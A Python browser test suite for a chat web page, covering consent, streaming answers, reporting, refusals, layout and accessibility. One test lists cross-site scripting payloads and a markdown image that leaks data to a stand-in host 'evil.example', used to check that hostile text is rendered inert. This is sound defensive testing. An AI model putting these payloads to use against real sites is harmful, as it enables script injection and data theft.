"""The page in the system's Chromium: what a visitor sees and does."""

import json
from collections.abc import Callable

import pytest

from pacos.serve.first_questions import Example
from tests.serve.browsing import ask, finished, wait_for_text
from tests.serve.conftest import ScriptedEngine, WordModerator, eventually

SLOW = [f"Sentence {i}. " for i in range(400)]


def test_terms_question_answer_and_note(visit: Callable[..., object]) -> None:
    page = visit(ScriptedEngine(["Hello **there**. ", "Bye."]), accept=False)
    assert page.get_by_label("Your message").count() == 0
    page.get_by_role("button", name="I accept").click()
    page.locator("#question:not([readonly])").wait_for()
    # Nothing was evaluated here, so that there is no question known to go well.
    assert page.locator(".example").count() == 0
    ask(page)
    answer = finished(page)
    assert answer.locator(".prose").inner_html() == "<div><p>Hello <strong>there</strong>. Bye.</p></div>"
    assert answer.locator(".badge").inner_text() == "Too short to detect"
    assert "2 tokens" in answer.locator(".note").inner_text()
    assert page.locator(".question .said").inner_text() == "Say hello"
    assert page.get_by_label("Your message").input_value() == ""


def test_example_asks_itself(visit: Callable[..., object]) -> None:
    page = visit(examples=[Example("Half", "What is half of 90?")])
    page.locator(".example").first.click()
    finished(page)
    assert page.locator("#welcome").is_hidden()
    page.get_by_role("button", name="New chat").click()
    assert page.locator("#welcome").is_visible()
    assert page.locator(".turn").count() == 0


def test_answer_streams_and_stop_frees_the_engine(visit: Callable[..., object]) -> None:
    engine = ScriptedEngine(SLOW, 0.05)
    page = visit(engine, moderating=WordModerator())
    ask(page)
    wait_for_text(page, "Sentence 2.")
    assert page.locator(".answer footer").is_hidden()
    page.get_by_role("button", name="Stop").click()
    answer = finished(page)
    assert answer.locator(".note").inner_text() == "Stopped"
    assert "Sentence 2." in answer.inner_text()
    assert eventually(lambda: engine.num_freed_early == 1)
    made = engine.num_made
    assert made < len(SLOW)
    page.wait_for_timeout(100)
    assert engine.num_made == made
    assert page.get_by_role("button", name="Send").is_visible()


def test_reload_keeps_the_conversation_even_in_mid_answer(visit: Callable[..., object]) -> None:
    engine = ScriptedEngine(["One *two*. ", *SLOW], 0.05)
    page = visit(engine)
    ask(page, "Count")
    wait_for_text(page, "Sentence 1.")
    page.reload()
    answer = finished(page)
    assert page.locator(".question .said").inner_text() == "Count"
    assert answer.locator("em").inner_text() == "two"
    assert answer.locator(".note").inner_text() == "Stopped"
    assert eventually(lambda: engine.num_freed_early == 1)


def test_report_with_and_without_consent(visit: Callable[..., object]) -> None:
    page = visit(ScriptedEngine(["An answer."]))
    ask(page, "A question")
    finished(page)
    for consent in (False, True):
        page.get_by_role("button", name="Report").click()
        page.get_by_label("Wrong or misleading").check()
        page.get_by_label("Details").fill("It is not so")
        page.get_by_label("Include the conversation").set_checked(consent)
        page.get_by_role("button", name="Send report").click()
        page.get_by_role("dialog").wait_for(state="hidden")
    without, with_consent = page.served.reports()
    assert without.items() >= {"reason": "wrong", "details": "It is not so", "transcript": None}.items()
    assert json.loads(with_consent["transcript"]) == [
        {"role": "user", "content": "A question"},
        {"role": "assistant", "content": "An answer."},
    ]
    assert "Reported, number 2" in page.locator(".note").inner_text()


def test_report_without_a_reason_is_asked_for_one_in_the_pages_words(visit: Callable[..., object]) -> None:
    page = visit(ScriptedEngine(["An answer."]))
    ask(page)
    finished(page)
    page.get_by_role("button", name="Report").click()
    page.get_by_role("button", name="Send report").click()
    assert "needs a reason" in page.locator("#report-missing").inner_text()
    assert page.locator("#report-refusal").is_hidden()
    page.get_by_label("Wrong or misleading").check()
    assert page.locator("#report-missing").is_hidden()
    assert page.served.reports() == []


def test_refusal_can_be_reported(visit: Callable[..., object]) -> None:
    page = visit(moderating=WordModerator())
    ask(page, "a forbidden thing")
    assert "rephrase" not in finished(page).locator(".problem").inner_text()
    assert page.get_by_role("button", name="Regenerate").is_hidden()
    page.get_by_role("button", name="Report").click()
    page.get_by_label("should not have been refused").check()
    page.get_by_label("Include the conversation").check()
    page.get_by_role("button", name="Send report").click()
    page.get_by_role("dialog").wait_for(state="hidden")
    (report,) = page.served.reports()
    question, refusal = json.loads(report["transcript"])
    assert (report["reason"], question["content"]) == ("refusal", "a forbidden thing")
    assert "content filter" in refusal["content"]


def test_withheld_answer_can_be_reported_as_one_that_should_not_be(visit: Callable[..., object]) -> None:
    page = visit(ScriptedEngine(["All well. ", "A forbidden thing. "]), moderating=WordModerator())
    ask(page)
    assert "withheld" in finished(page).locator(".note").inner_text()
    page.reload()
    finished(page)
    page.get_by_role("button", name="Report").click()
    page.get_by_label("should not have been").check()
    page.get_by_label("Include the conversation").check()
    page.get_by_role("button", name="Send report").click()
    page.get_by_role("dialog").wait_for(state="hidden")
    (report,) = page.served.reports()
    assert report["reason"] == "refusal"
    assert json.loads(report["transcript"])[1]["content"].startswith("All well.")


def test_cut_answer_ends_in_an_ellipsis_and_a_whole_one_does_not(visit: Callable[..., object]) -> None:
    engine = ScriptedEngine(["word "] * 600)
    page = visit(engine)
    end = """() => {
        const paragraph = [...document.querySelectorAll(".prose")].at(-1).querySelector("p");
        return getComputedStyle(paragraph, "::after").content;
    }"""
    ask(page)
    assert "cut at the length limit" in finished(page).locator(".note").inner_text()
    assert "…" in page.evaluate(end)
    page.reload()
    finished(page)
    assert "…" in page.evaluate(end)
    engine.pieces = ["Whole."]
    ask(page)
    finished(page, 2)
    assert page.evaluate(end) == "none"


@pytest.mark.parametrize("width", [390, 1280])
def test_no_page_lies_beyond_the_edge(visit: Callable[..., object], width: int) -> None:
    long = "wordwithoutanyplacetobreak" * 9
    page = visit(
        ScriptedEngine([f"{long}\n\n```\n{long}\n```\n\n| {long} | b |\n|-|-|\n| 1 | 2 |\n"]),
        accept=False,
        examples=[Example("Half", long[:120])],
    )
    page.set_viewport_size({"width": width, "height": 844})
    wide = "document.documentElement.scrollWidth"
    assert page.evaluate(wide) == width
    page.get_by_role("button", name="I accept").click()
    page.locator("#question:not([readonly])").wait_for()
    assert page.evaluate(wide) == width
    ask(page, long)
    finished(page)
    assert page.evaluate(wide) == width
    page.get_by_role("button", name="Report").click()
    assert page.evaluate(wide) == width
    page.goto(f"{page.served.url}/nothing-here")
    assert page.evaluate(wide) == width


ATTACKS = [
    "<script>window.hit=1</script>",
    '<img src=x onerror="window.hit=1">',
    "[click](javascript:window.hit=1)",
    '<a href="javascript:window.hit=1">click</a>',
    "![i](https://evil.example/?q=secret)",
    '```x" onmouseover="window.hit=1\n</code></pre><script>window.hit=1</script>\n```',
    "<svg onload=window.hit=1><style>body{display:none}</style>",
    '"><iframe srcdoc="<script>parent.hit=1</script>">',
]


def test_hostile_text_is_inert_in_question_and_answer(visit: Callable[..., object]) -> None:
    attack = "\n\n".join(ATTACKS)
    page = visit(ScriptedEngine([attack[i : i + 9] for i in range(0, len(attack), 9)]))
    ask(page, attack)
    answer = finished(page)
    for element in answer.locator("a").all():
        assert element.get_attribute("href") is None or element.get_attribute("href").startswith("http")
    assert page.locator(".turn :is(script, img, iframe, style, svg:not(.icon))").count() == 0
    assert page.locator(".question .said").inner_text() == attack
    page.reload()
    finished(page)
    assert page.evaluate("window.hit") is None


def test_errors_are_shown_and_the_page_goes_on(visit: Callable[..., object]) -> None:
    engine = ScriptedEngine(["Half. ", "Rest."])
    page = visit(engine, moderating=WordModerator())
    ask(page, "a forbidden thing")
    assert "content filter" in finished(page).locator(".problem").inner_text()
    engine.failure = RuntimeError("inside")
    ask(page)
    assert "failed" in finished(page, 2).locator(".problem").inner_text()
    engine.failure = None
    ask(page)
    assert "Half. Rest." in finished(page, 3).inner_text()
    page.route("**/chat", lambda route: route.abort())
    ask(page)
    assert "cannot be reached" in finished(page, 4).locator(".problem").inner_text()


def test_keyboard_alone_is_enough(visit: Callable[..., object]) -> None:
    engine = ScriptedEngine(["Hello."])
    page = visit(engine, accept=False)
    page.get_by_role("button", name="I accept").focus()
    page.keyboard.press("Enter")
    page.locator("#question:not([readonly])").wait_for()
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    page.keyboard.press("Enter")
    finished(page)
    assert "one\ntwo" in engine.requests[0].prompt
    assert page.evaluate("document.activeElement.id") == "question"
    engine.pieces, engine.pause_seconds = SLOW, 0.05
    ask(page)
    wait_for_text(page, "Sentence 1.")
    page.keyboard.press("Escape")
    assert finished(page, 2).locator(".note").inner_text() == "Stopped"


def test_screen_reader_hears_each_sentence_once(visit: Callable[..., object]) -> None:
    page = visit(ScriptedEngine(["One. ", "Two. ", *SLOW], 0.05), moderating=WordModerator())
    assert page.get_by_role("log").get_attribute("aria-live") == "polite"
    ask(page)
    wait_for_text(page, "Two.")
    # The visible text is silent while it changes; the sentences are spoken as they are added beside it.
    assert page.locator(".prose").get_attribute("aria-live") == "off"
    spoken = [span.inner_text().strip() for span in page.locator("#spoken span").all()]
    assert spoken[:2] == ["One.", "Two."]
    assert len(set(spoken)) == len(spoken)


def test_screen_reader_hears_sentences_where_the_text_comes_word_by_word(visit: Callable[..., object]) -> None:
    words = ["One", "small", "word.", "Then", "3.14", "of", "another!", "And", "a", "rest"]
    page = visit(ScriptedEngine([f"{word} " for word in words], 0.06))
    ask(page)
    finished(page)
    spoken = [span.inner_text().strip() for span in page.locator("#spoken span").all()]
    assert spoken == ["One small word.", "Then 3.14 of another!", "And a rest"]
